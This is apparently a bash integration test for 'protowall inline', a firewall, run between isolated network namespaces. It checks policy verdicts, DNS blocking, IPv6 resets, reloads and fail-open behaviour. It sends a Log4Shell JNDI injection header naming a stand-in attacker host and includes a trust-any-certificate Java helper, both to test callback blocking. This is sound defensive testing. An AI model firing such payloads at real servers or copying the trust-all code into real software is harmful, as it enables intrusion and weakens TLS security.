#!/usr/bin/env bash
# tests/scripts/test_inline.sh - `protowall inline` enforcing a policy between two network namespaces, real clients and servers.
#
# "inst" is the instance: protowall inline reads queue 0, fed by `protowall nft install` on its
# OUTPUT, INPUT and FORWARD hooks, and the clients run there (curl, ldapsearch, a JVM, nc, dig).
# "net" is the internet: slapd on 443 and 389, a Java RMI registry on 443, openssl s_server with
# TLS on 443 for two names, dnsmasq, nc. Every assertion checks what the client saw and the exact
# policy.log row. Needs root; exits 77 without it or without the programs.
set -u
ROOT=${PW_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
BIN=${PW_BIN:-$ROOT/build/protowall}
PY=${PYTHON:-/usr/bin/python3}
ROWS="$PY $ROOT/tests/scripts/inline_rows.py"

skip() { echo "skipped: $*"; exit 77; }
[ "$(id -u)" -eq 0 ] || skip "needs root (network namespaces, NFQUEUE)"
for p in ip nft iptables slapd slapadd ldapsearch openssl dnsmasq dig curl nc; do
    command -v $p >/dev/null 2>&1 || skip "$p is not installed (scripts/bootstrap installs it)"
done
JDK=/usr/lib/jvm/java-17-openjdk-amd64
[ -x $JDK/bin/javac ] || skip "openjdk-17-jdk-headless is not installed"
"$BIN" inline --help >/dev/null 2>&1 || skip "$BIN has no inline command"

NS_I=pwt-inst
NS_N=pwt-net
I_IP=10.77.0.2
LDAP_IP=198.51.100.10
RMI_IP=198.51.100.11
WEB_IP=198.51.100.20
NC_IP=198.51.100.30
ATT_IP=198.51.100.40
DNS_IP=198.51.100.53
I_IP6=fd77::2
WEB_IP6=fd77::20
ix="ip netns exec $NS_I"
nx="ip netns exec $NS_N"
W=$(mktemp -d /tmp/pw-inline.XXXXXX)
LOGS=$W/logs
PL=$LOGS/policy.log
START=$SECONDS
. "$ROOT/tests/lib/netns.sh"
NETNS=($NS_I $NS_N)
netns_watchdog 170
netns_traps
mark() { if [ -f "$PL" ]; then wc -l <"$PL"; else echo 0; fi; }
# row NAME SKIP FIELD=VALUE...: the row must appear (policy.log is flushed every second).
row() {
    local name=$1 skip=$2
    shift 2
    if wait_until 30 $ROWS "$PL" "$skip" "$@"; then ok "$name: policy.log row"; else
        bad "$name: policy.log row"
        $ROWS "$PL" "$skip" "$@"
    fi
}

# ---- the network -----------------------------------------------------------------------------------
for ns in $NS_I $NS_N; do ip netns del $ns 2>/dev/null; done
ip netns add $NS_I
ip netns add $NS_N
ip link add pwt-i0 netns $NS_I type veth peer name pwt-n0 netns $NS_N
for ns in $NS_I $NS_N; do ip netns exec $ns ip link set lo up; done
$ix ip link set pwt-i0 up
$ix ip addr add $I_IP/24 dev pwt-i0
$ix ip -6 addr add $I_IP6/64 dev pwt-i0 nodad
$ix ip route add default via 10.77.0.1
$nx ip link set pwt-n0 up
$nx ip addr add 10.77.0.1/24 dev pwt-n0
$nx ip -6 addr add fd77::1/64 dev pwt-n0 nodad
for a in $LDAP_IP $RMI_IP $WEB_IP $NC_IP $ATT_IP $DNS_IP; do $nx ip addr add $a/32 dev pwt-n0; done
$nx ip -6 addr add $WEB_IP6/128 dev pwt-n0 nodad
mkdir -p /etc/netns/$NS_I
echo "nameserver $DNS_IP" >/etc/netns/$NS_I/resolv.conf

# ---- the internet's servers -------------------------------------------------------------------------
mkdir -p "$W/ldap/db" "$W/java" "$W/bin" "$LOGS"
cat >"$W/ldap/slapd.conf" <<EOF
include   /etc/ldap/schema/core.schema
pidfile   $W/ldap/slapd.pid
argsfile  $W/ldap/slapd.args
modulepath /usr/lib/ldap
moduleload back_mdb
database  mdb
maxsize   1048576
suffix    "dc=test"
rootdn    "cn=admin,dc=test"
directory $W/ldap/db
access to * by * read
EOF
printf 'dn: dc=test\nobjectClass: dcObject\nobjectClass: organization\ndc: test\no: test\n' >"$W/ldap/base.ldif"
slapadd -q -f "$W/ldap/slapd.conf" -l "$W/ldap/base.ldif" 2>"$W/slapadd.err" || { cat "$W/slapadd.err"; exit 1; }
$nx slapd -d 0 -f "$W/ldap/slapd.conf" -h "ldap://$LDAP_IP:443/ ldap://$LDAP_IP:389/" >"$W/slapd.log" 2>&1 &
PIDS+=($!)

cat >"$W/java/Lookup.java" <<'EOF'
// Lookup.java - one JNDI lookup, as Log4j's JndiLookup made it; prints OK or the exception.
import java.util.Hashtable;
import javax.naming.InitialContext;

public class Lookup {
    public static void main(String[] args) {
        try {
            Hashtable<String, String> env = new Hashtable<>();
            env.put("com.sun.jndi.ldap.connect.timeout", "3000");
            env.put("com.sun.jndi.ldap.read.timeout", "3000");
            Object o = new InitialContext(env).lookup(args[0]);
            System.out.println("OK " + o);
        } catch (Throwable t) {
            Throwable root = t;
            while (root.getCause() != null)
                root = root.getCause();
            System.out.println("FAIL " + t.getClass().getName() + " / " + root);
        }
    }
}
EOF
cat >"$W/java/RmiServer.java" <<'EOF'
// RmiServer.java - an RMI registry listening on one address and port.
import java.net.InetAddress;
import java.net.ServerSocket;
import java.rmi.registry.LocateRegistry;

public class RmiServer {
    public static void main(String[] args) throws Exception {
        InetAddress ip = InetAddress.getByName(args[0]);
        LocateRegistry.createRegistry(Integer.parseInt(args[1]), null, port -> new ServerSocket(port, 50, ip));
        System.out.println("ready");
        Thread.sleep(Long.MAX_VALUE);
    }
}
EOF
cat >"$W/java/Tls.java" <<'EOF'
// Tls.java - a TLS handshake with host:443 under a name (SNI), trusting any certificate.
import java.security.cert.X509Certificate;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

public class Tls {
    public static void main(String[] args) {
        try {
            TrustManager any = new X509TrustManager() {
                public void checkClientTrusted(X509Certificate[] c, String a) { }
                public void checkServerTrusted(X509Certificate[] c, String a) { }
                public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
            };
            SSLContext ctx = SSLContext.getInstance("TLS");
            ctx.init(null, new TrustManager[] {any}, null);
            try (SSLSocket s = (SSLSocket) ctx.getSocketFactory().createSocket(args[1], 443)) {
                javax.net.ssl.SSLParameters p = s.getSSLParameters();
                p.setServerNames(java.util.List.of(new javax.net.ssl.SNIHostName(args[0])));
                s.setSSLParameters(p);
                s.setSoTimeout(3000);
                s.startHandshake();
                System.out.println("OK " + s.getSession().getProtocol());
            }
        } catch (Throwable t) {
            System.out.println("FAIL " + t);
        }
    }
}
EOF
$JDK/bin/javac -nowarn -d "$W/java" "$W/java/Lookup.java" "$W/java/RmiServer.java" "$W/java/Tls.java" || exit 1
JAVA="$JDK/bin/java -XX:TieredStopAtLevel=1 -Xshare:auto -cp $W/java"
$nx $JAVA -Djava.rmi.server.hostname=$RMI_IP RmiServer $RMI_IP 443 >"$W/rmi.log" 2>&1 &
PIDS+=($!)

for n in allowed denied attacker; do
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj "/CN=$n.test" \
        -keyout "$W/$n.key" -out "$W/$n.crt" 2>/dev/null || exit 1
done
$nx openssl s_server -quiet -www -accept $WEB_IP:443 -cert "$W/allowed.crt" -key "$W/allowed.key" \
    -servername allowed.test -cert2 "$W/denied.crt" -key2 "$W/denied.key" >"$W/web.log" 2>&1 &
PIDS+=($!)
$nx openssl s_server -quiet -www -accept "[$WEB_IP6]:443" -cert "$W/denied.crt" -key "$W/denied.key" \
    >"$W/web6.log" 2>&1 &
PIDS+=($!)
$nx openssl s_server -quiet -www -accept $ATT_IP:443 -cert "$W/attacker.crt" -key "$W/attacker.key" \
    >"$W/att.log" 2>&1 &
PIDS+=($!)
$nx dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=$DNS_IP --bind-interfaces --user=root \
    --pid-file="$W/dnsmasq.pid" --log-queries --log-facility="$W/dnsmasq.log" \
    --address=/allowed.test/$WEB_IP --address=/denied.test/$WEB_IP --address=/attacker.test/$ATT_IP \
    --address=/dnslog.cn/$NC_IP >/dev/null 2>&1 &
PIDS+=($!)
# The instance's web app, which the attacker's request reaches.
$ix $PY -m http.server 8080 --bind $I_IP --directory "$W/java" >"$W/app.log" 2>&1 &
PIDS+=($!)

wait_until 100 listening $NS_N $LDAP_IP 443 || { echo "slapd did not start: $(cat "$W/slapd.log")"; exit 1; }
wait_until 100 listening $NS_N $RMI_IP 443 || { echo "the RMI registry did not start: $(cat "$W/rmi.log")"; exit 1; }
wait_until 50 listening $NS_N $WEB_IP 443 || { echo "s_server did not start"; exit 1; }
wait_until 50 listening $NS_N $ATT_IP 443 || { echo "s_server did not start"; exit 1; }
wait_until 50 listening $NS_N "[$WEB_IP6]" 443 || { echo "s_server did not start on IPv6"; exit 1; }
wait_until 50 listening $NS_I $I_IP 8080 || { echo "http.server did not start"; exit 1; }
wait_until 50 test -s "$W/dnsmasq.log" || { echo "dnsmasq did not start"; exit 1; }

# Controls, before any rule: every server answers the instance.
check "control: ldapsearch reaches slapd on 443" quiet $ix ldapsearch -x -LLL -o nettimeout=3 -H ldap://$LDAP_IP:443/ -b dc=test -s base dn
$ix $JAVA Lookup rmi://$RMI_IP:443/x >"$W/rmi-control.out" 2>&1
check "control: the JVM's RMI lookup reaches the registry" grep -q NameNotFoundException "$W/rmi-control.out"
$ix $JAVA Lookup ldap://$LDAP_IP:443/dc=test >"$W/jndi-control.out" 2>&1
check "control: the JVM's JNDI lookup reaches slapd" grep -q "^OK" "$W/jndi-control.out"
$ix $JAVA Tls allowed.test $WEB_IP >"$W/tls-control.out" 2>&1
check "control: the JVM's TLS handshake with allowed.test succeeds" grep -q "^OK" "$W/tls-control.out"
check "control: curl reaches https://denied.test over IPv6" $ix curl -sk --max-time 3 -o /dev/null \
    --resolve "denied.test:443:[$WEB_IP6]" https://denied.test/
check "control: curl reaches https://denied.test" $ix curl -sk --max-time 3 -o /dev/null https://denied.test/

# ---- protowall ---------------------------------------------------------------------------------------
cat >"$W/policy.yaml" <<'EOF'
default: { outbound: deny, inbound: allow }
rules:
  - { name: no-jndi-callbacks, action: deny, direction: outbound, app: [ldap, rmi, iiop] }
  - { name: dns-to-resolver, action: allow, direction: outbound, app: dns, dst: 198.51.100.53, dst_port: 53 }
  - { name: web-curl, action: allow, direction: outbound, app: [tls, http], domain: [allowed.test, attacker.test], process: /usr/bin/curl }
  - { name: no-unknown, action: deny, direction: outbound, app: unknown }
dns_firewall: { deny_domains: ["*.dnslog.cn"], answer: nxdomain }
dynamic_block: { from_attempts: true, ttl: 10m }
identification: { hold_bytes: 8192, hold_packets: 8, hold_ms: 250 }
EOF
# Line 7: Python may speak TLS to split.test (its ClientHello comes in two segments, below).
sed -i "6a\\  - { name: python-split, action: allow, direction: outbound, app: tls, domain: split.test, process: $(readlink -f $PY) }" "$W/policy.yaml"
check "nft install (fail-open)" quiet $ix "$BIN" nft install --queue 0
notify_listen "$W/notify.sock" "$W/notify.log" || bad "the sd_notify listener starts"
start_pw() {
    $ix env NOTIFY_SOCKET="$W/notify.sock" "$BIN" inline --queue 0 --policy "$W/policy.yaml" -o "$LOGS" \
        --format json >>"$W/inline.err" 2>&1 &
    PW_PID=$!
    wait_until 50 grep -q "protowall inline: queue 0" "$W/inline.err"
}
start_pw || { cat "$W/inline.err"; exit 1; }
R="RELOADING=1;MONOTONIC_USEC=N"
check "systemd is told READY=1 once the queue is bound" wait_until 30 notified "$W/notify.log" READY=1
I="id.orig_h=$I_IP"
OUT="proto=tcp user=root direction=outbound"
CURL="/usr/bin/curl"

# ---- LDAP and RMI callbacks on 443 --------------------------------------------------------------------
m=$(mark)
if $ix ldapsearch -x -LLL -o nettimeout=3 -H ldap://$LDAP_IP:443/ -b dc=test -s base dn >"$W/ldap.out" 2>&1; then
    bad "ldapsearch to $LDAP_IP:443 refused"
else ok "ldapsearch to $LDAP_IP:443 refused ($(head -1 "$W/ldap.out"))"; fi
row "ldapsearch 443" "$m" $I id.resp_h=$LDAP_IP id.resp_p=443 $OUT app=ldap_tcp process=/usr/bin/ldapsearch \
    rule=no-jndi-callbacks action=deny "reason=identified; first matching rule (line 3)"
m=$(mark)
$ix ldapsearch -x -LLL -o nettimeout=3 -H ldap://$LDAP_IP:389/ -b dc=test -s base dn >/dev/null 2>&1 \
    && bad "ldapsearch to $LDAP_IP:389 refused" || ok "ldapsearch to $LDAP_IP:389 refused"
row "ldapsearch 389" "$m" $I id.resp_h=$LDAP_IP id.resp_p=389 $OUT app=ldap_tcp process=/usr/bin/ldapsearch \
    rule=no-jndi-callbacks action=deny "reason=identified; first matching rule (line 3)"
m=$(mark)
$ix $JAVA Lookup ldap://$LDAP_IP:443/dc=test >"$W/jndi.out" 2>&1
check "JVM JNDI lookup ldap://$LDAP_IP:443 refused" grep -qiE "^FAIL javax.naming.*(closed|reset|refused)" "$W/jndi.out"
row "JVM JNDI ldap" "$m" $I id.resp_h=$LDAP_IP id.resp_p=443 $OUT app=ldap_tcp process=$JDK/bin/java \
    rule=no-jndi-callbacks action=deny "reason=identified; first matching rule (line 3)"
m=$(mark)
$ix $JAVA Lookup rmi://$RMI_IP:443/x >"$W/rmi.out" 2>&1
if grep -q "^FAIL" "$W/rmi.out" && ! grep -q NameNotFoundException "$W/rmi.out"; then
    ok "JVM RMI lookup rmi://$RMI_IP:443 refused"
else bad "JVM RMI lookup rmi://$RMI_IP:443 refused: $(cat "$W/rmi.out")"; fi
row "JVM RMI" "$m" $I id.resp_h=$RMI_IP id.resp_p=443 $OUT app=rmi process=$JDK/bin/java \
    rule=no-jndi-callbacks action=deny "reason=identified; first matching rule (line 3)"

# ---- TLS by name, and by process ----------------------------------------------------------------------
m=$(mark)
check "curl https://allowed.test succeeds" $ix curl -sk --max-time 5 -o "$W/allowed.html" https://allowed.test/
row "curl allowed.test" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=allowed.test process=$CURL \
    rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
row "curl allowed.test: its DNS query" "$m" $I id.resp_h=$DNS_IP id.resp_p=53 proto=udp user=root direction=outbound \
    app=dns domain=allowed.test process=$CURL rule=dns-to-resolver action=allow \
    "reason=identified; first matching rule (line 4)"
m=$(mark)
$ix curl -sk --max-time 5 -o /dev/null https://denied.test/; rc=$?
[ $rc -ne 0 ] && [ $rc -ne 28 ] && ok "curl https://denied.test fails fast (curl exit $rc)" || bad "curl https://denied.test fails fast (exit $rc)"
row "curl denied.test" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test process=$CURL \
    rule=default action=deny "reason=identified; no rule matched: default for outbound"
cp /usr/bin/curl "$W/bin/curl"
m=$(mark)
$ix "$W/bin/curl" -sk --max-time 5 --resolve allowed.test:443:$WEB_IP -o /dev/null https://allowed.test/ \
    && bad "a copy of curl at another path is refused allowed.test" || ok "a copy of curl at another path is refused allowed.test"
row "curl copy allowed.test" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=allowed.test \
    process=$W/bin/curl rule=default action=deny "reason=identified; no rule matched: default for outbound"

m=$(mark)
$ix $JAVA Tls allowed.test $WEB_IP >"$W/tls.out" 2>&1
check "the same destination is refused to java" grep -q "^FAIL .*Connection reset" "$W/tls.out"
row "java allowed.test" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=allowed.test \
    process=$JDK/bin/java rule=default action=deny "reason=identified; no rule matched: default for outbound"

# ---- IPv6: TCP reset and ICMPv6 port unreachable ------------------------------------------------
m=$(mark)
$ix curl -sk --max-time 5 -o /dev/null --resolve "denied.test:443:[$WEB_IP6]" https://denied.test/; rc=$?
[ $rc -ne 0 ] && [ $rc -ne 28 ] && ok "IPv6: curl https://denied.test fails fast (curl exit $rc)" || bad "IPv6: curl https://denied.test fails fast (exit $rc)"
row "IPv6 curl denied.test" "$m" id.orig_h=$I_IP6 id.resp_h=$WEB_IP6 id.resp_p=443 $OUT app=ssl domain=denied.test \
    process=$CURL rule=default action=deny "reason=identified; no rule matched: default for outbound"
# The same refusal for a TCP connection whose every packet carries a destination-options header
# (IPV6_DSTOPTS): the reset's sequence numbers come from the TCP header behind it.
m=$(mark)
$ix $PY -c '
import socket, ssl, sys, time
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
# Next header (filled in by the kernel), length 0 (8 bytes), a PadN option of 4 bytes.
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
s.settimeout(4)
s.connect((sys.argv[1], 443))
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
t = time.monotonic()
try:
    ctx.wrap_socket(s, server_hostname="denied.test").close()
except (ConnectionResetError, ssl.SSLError, OSError) as e:
    if isinstance(e, (socket.timeout, TimeoutError)):
        sys.exit("timed out: no reset came")
    sys.exit(0 if time.monotonic() - t < 2 else "refused only after %.1f s" % (time.monotonic() - t))
sys.exit("the handshake succeeded")' $WEB_IP6
check "IPv6 with a destination-options header: TLS to denied.test is reset at once" test $? -eq 0
row "IPv6 dstopts denied.test" "$m" id.orig_h=$I_IP6 id.resp_h=$WEB_IP6 id.resp_p=443 $OUT app=ssl domain=denied.test \
    process=$(readlink -f $PY) rule=default action=deny "reason=identified; no rule matched: default for outbound"
m=$(mark)
$ix $PY -c '
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.connect((sys.argv[1], 9999))
s.settimeout(3)
s.send(b"\x01\x02 who is there")
try:
    s.recv(100)
except ConnectionRefusedError:
    sys.exit(0)
sys.exit(1)' $WEB_IP6
check "IPv6: a UDP datagram nobody can name is refused (ICMPv6 port unreachable)" test $? -eq 0
row "IPv6 udp unknown" "$m" id.orig_h=$I_IP6 id.resp_h=$WEB_IP6 id.resp_p=9999 proto=udp user=root direction=outbound \
    app=unknown process=$(readlink -f $PY) rule=no-unknown action=deny \
    "reason=identification named no protocol; first matching rule (line 6)"

# ---- a server that speaks first ------------------------------------------------------------------------
nc_server() {
    (printf 'HELLO-FROM-THE-SERVER\n'; sleep 3) | $nx timeout 5 nc -l -s $NC_IP -p 443 >/dev/null 2>&1 &
    PIDS+=($!)
    wait_until 30 listening $NS_N $NC_IP 443
}
nc_server
m=$(mark)
$ix timeout 4 nc $NC_IP 443 </dev/null >"$W/nc.out" 2>&1
check "nc to $NC_IP:443 (server speaks first) gets nothing" test ! -s "$W/nc.out"
row "nc server first" "$m" $I id.resp_h=$NC_IP id.resp_p=443 $OUT app=unknown process=$(readlink -f "$(command -v nc)") \
    rule=no-unknown action=deny \
    "reason=the server spoke first, in no protocol identification knows; first matching rule (line 6)"

# ---- holding: a ClientHello in two segments, and bytes nothing can name ----------------------------
cat >"$W/split.py" <<'EOF'
# split.py HOST IP: a TLS ClientHello for HOST sent in two segments 50 ms apart; "answered" if the server replies.
import socket, ssl, sys, time
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
out = ssl.MemoryBIO()
tls = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sys.argv[1])
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
s = socket.create_connection((sys.argv[2], 443))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.settimeout(3)
try:
    s.send(hello[:100])
    time.sleep(0.05)
    s.send(hello[100:])
    print("answered" if s.recv(100) else "closed")
except OSError as e:
    print("failed:", e)
EOF
m=$(mark)
check "a ClientHello in two segments is held, named and let through" \
    grep -q answered <($ix $PY "$W/split.py" split.test $WEB_IP)
row "split ClientHello" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=split.test process=$(readlink -f $PY) \
    rule=python-split action=allow "reason=identified; first matching rule (line 7)"
m=$(mark)
t0=$(date +%s%N)
out=$($ix $PY -c '
import socket, sys
s = socket.create_connection((sys.argv[1], 443))
s.settimeout(3)
s.send(b"GE")
try:
    print("got %r" % s.recv(100))
except OSError as e:
    print("failed:", e)' $WEB_IP)
t1=$(date +%s%N)
check "2 bytes nothing can name: reset when the hold budget runs out ($out, $(((t1 - t0) / 1000000)) ms)" \
    grep -q "Connection reset" <<<"$out"
# No SNI or Host to go by: the flow's name is the one DNS last gave for the address (denied.test,
# looked up by curl above after allowed.test).
row "hold_ms budget" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=unknown domain=denied.test process=$(readlink -f $PY) \
    rule=no-unknown action=deny "reason=identification budget ran out (hold_ms 250); first matching rule (line 6)"

# ---- DNS firewall ----------------------------------------------------------------------------------------
m=$(mark)
$ix dig +time=2 +tries=1 @$DNS_IP x.dnslog.cn A >"$W/dig.out" 2>&1
check "x.dnslog.cn gets NXDOMAIN" grep -q "status: NXDOMAIN" "$W/dig.out"
row "dns firewall" "$m" $I id.resp_h=$DNS_IP id.resp_p=53 proto=udp direction=outbound app=dns domain=x.dnslog.cn \
    rule=dns_firewall action=deny "reason=DNS query for a name in dns_firewall.deny_domains; answered NXDOMAIN"
m=$(mark)
$ix dig +tcp +time=2 +tries=1 @$DNS_IP y.dnslog.cn A >"$W/dig-tcp.out" 2>&1
check "over TCP, the query for y.dnslog.cn is reset" grep -q "connection reset" "$W/dig-tcp.out"
row "dns firewall over TCP" "$m" $I id.resp_h=$DNS_IP id.resp_p=53 proto=tcp direction=outbound app=dns \
    domain=y.dnslog.cn rule=dns_firewall action=deny \
    "reason=DNS query for a name in dns_firewall.deny_domains; the connection is reset"
check "the resolver never saw x.dnslog.cn nor y.dnslog.cn" bash -c "! grep -q 'query.*dnslog.cn' '$W/dnsmasq.log'"
check "the resolver did see allowed.test" grep -q "query.*allowed.test" "$W/dnsmasq.log"

# ---- blocking the callback an inbound lookup attempt names -----------------------------------------------
check "control: TLS to attacker.test allowed before the attempt" \
    $ix curl -sk --max-time 5 --resolve attacker.test:443:$ATT_IP -o /dev/null https://attacker.test/
m=$(mark)
check "the attacker's request reaches the instance's web app" $nx curl -s --max-time 5 -o /dev/null \
    -H 'X-Api-Version: ${jndi:ldap://attacker.test:443/x}' http://$I_IP:8080/
row "inbound request" "$m" id.orig_h=10.77.0.1 id.resp_h=$I_IP id.resp_p=8080 proto=tcp direction=inbound \
    process=$(readlink -f $PY) user=root rule=default action=allow "reason=before identification; no rule can match: default for inbound"
sleep 0.3
m=$(mark)
$ix curl -sk --max-time 5 -o /dev/null https://attacker.test/; rc=$?
check "the callback's DNS lookup fails (curl exit $rc)" test $rc -eq 6
row "callback DNS" "$m" $I id.resp_h=$DNS_IP id.resp_p=53 proto=udp direction=outbound app=dns domain=attacker.test \
    rule=dynamic_block action=deny "reason=DNS query for a callback target of a JNDI lookup attempt; answered NXDOMAIN" \
    --count 2
m=$(mark)
$ix curl -sk --max-time 5 --resolve attacker.test:443:$ATT_IP -o /dev/null https://attacker.test/; rc=$?
[ $rc -ne 0 ] && [ $rc -ne 28 ] && ok "the callback over TLS to attacker.test fails fast (curl exit $rc)" \
    || bad "the callback over TLS to attacker.test fails fast (exit $rc)"
row "callback TLS" "$m" $I id.resp_h=$ATT_IP id.resp_p=443 $OUT app=ssl domain=attacker.test process=$CURL \
    rule=dynamic_block action=deny "reason=identified; callback target of a JNDI lookup attempt: attacker.test"
for a in $DNS_IP $ATT_IP; do
    check "a LOG4J_CALLBACK_BLOCKED notice for the flow to $a" wait_until 30 grep -q \
        '"id.resp_h":"'$a'".*"note":"CVE_2021_44228::LOG4J_CALLBACK_BLOCKED"' "$LOGS/notice.log"
done

# ---- SIGHUP: a good policy, then a bad one ------------------------------------------------------------------
# The new policy allows denied.test too, and changes both settings: a full queue now drops, and a
# host named by an attempt is refused for 2 s instead of 10 min.
cp "$W/policy.yaml" "$W/first.yaml"
sed -i 's/domain: \[allowed.test, attacker.test\]/domain: [allowed.test, attacker.test, denied.test]/; s/ttl: 10m/ttl: 2s/' "$W/policy.yaml"
echo "on_failure: fail-closed" >>"$W/policy.yaml"
kill -HUP $PW_PID
check "SIGHUP reloads a good policy, its settings too" wait_until 30 grep -q \
    "SIGHUP: .*reloaded, 5 rules; decided flows keep their verdicts; on_failure now fail-closed; dynamic_block.ttl now 2 s" \
    "$W/inline.err"
m=$(mark)
check "after the reload, curl https://denied.test succeeds" $ix curl -sk --max-time 5 -o /dev/null https://denied.test/
row "reload: denied.test allowed" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
    process=$CURL rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
# The reloaded dynamic_block.ttl: an attempt naming denied.test refuses it for 2 s, then no more.
$nx curl -s --max-time 5 -o /dev/null -H 'X-Api-Version: ${jndi:ldap://denied.test:443/x}' http://$I_IP:8080/
sleep 0.3
m=$(mark)
check "an attempt naming denied.test: the callback to it is refused" \
    bash -c "! $ix curl -sk --max-time 5 --resolve denied.test:443:$WEB_IP -o /dev/null https://denied.test/"
row "reload: callback to denied.test blocked" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
    process=$CURL rule=dynamic_block action=deny "reason=identified; callback target of a JNDI lookup attempt: denied.test"
sleep 2.5
m=$(mark)
check "  2.5 s later (ttl 2s), it passes again" \
    $ix curl -sk --max-time 5 --resolve denied.test:443:$WEB_IP -o /dev/null https://denied.test/
row "reload: callback block expired" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
    process=$CURL rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
cp "$W/policy.yaml" "$W/good.yaml"
sed -i '6a\  - { name: broken, action: allow, application: http }' "$W/policy.yaml"
want=$("$BIN" policy check "$W/policy.yaml" 2>&1)
kill -HUP $PW_PID
check "SIGHUP refuses a bad policy, saying why as policy check does" wait_until 30 grep -qF \
    "the new policy is refused, the old one stays: $want" "$W/inline.err"
check "  (that is: $want)" grep -q "policy.yaml:7:.*unknown key" <<<"$want"
check "  systemd was told RELOADING=1 (with MONOTONIC_USEC) and READY=1 around each SIGHUP" \
    notified "$W/notify.log" READY=1 "$R" READY=1 "$R" READY=1
m=$(mark)
check "the old policy stays: denied.test still allowed" $ix curl -sk --max-time 5 -o /dev/null https://denied.test/
row "bad reload: old policy kept" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
    process=$CURL rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
cp "$W/first.yaml" "$W/policy.yaml"

# ---- SIGTERM: a clean stop ---------------------------------------------------------------------------------------
kill -TERM $PW_PID
wait $PW_PID; rc=$?
PW_PID=
check "SIGTERM stops protowall cleanly" test $rc -eq 0
check "  systemd was told STOPPING=1" notified "$W/notify.log" READY=1 "$R" READY=1 "$R" READY=1 STOPPING=1
check "the stop prints its counts" grep -q "flows decided" "$W/inline.err"
check "conn.log was written at the stop" test -s "$LOGS/conn.log"

# ---- fail-open and fail-closed when protowall is killed -----------------------------------------------------------
start_pw || bad "protowall restarts"
kill -9 $PW_PID
wait $PW_PID 2>/dev/null
PW_PID=
nc_server
$ix timeout 3 nc $NC_IP 443 </dev/null >"$W/nc2.out" 2>&1
check "fail-open: protowall killed, traffic flows (nc gets the banner)" grep -q HELLO-FROM-THE-SERVER "$W/nc2.out"
check "nft install --fail-closed" quiet $ix "$BIN" nft install --queue 0 --fail-closed
$ix curl -sk --max-time 2 --resolve allowed.test:443:$WEB_IP -o /dev/null https://allowed.test/; rc=$?
check "fail-closed: protowall down, curl https://allowed.test times out (exit $rc)" test $rc -eq 28
check "nft remove" quiet $ix "$BIN" nft remove
check "no rules left after remove" bash -c "! $ix nft list ruleset | grep -qi -e protowall -e 'queue'"
check "control: with the rules removed traffic flows" $ix curl -sk --max-time 3 --resolve allowed.test:443:$WEB_IP \
    -o /dev/null https://allowed.test/

echo "($((SECONDS - START)) s)"
netns_summary
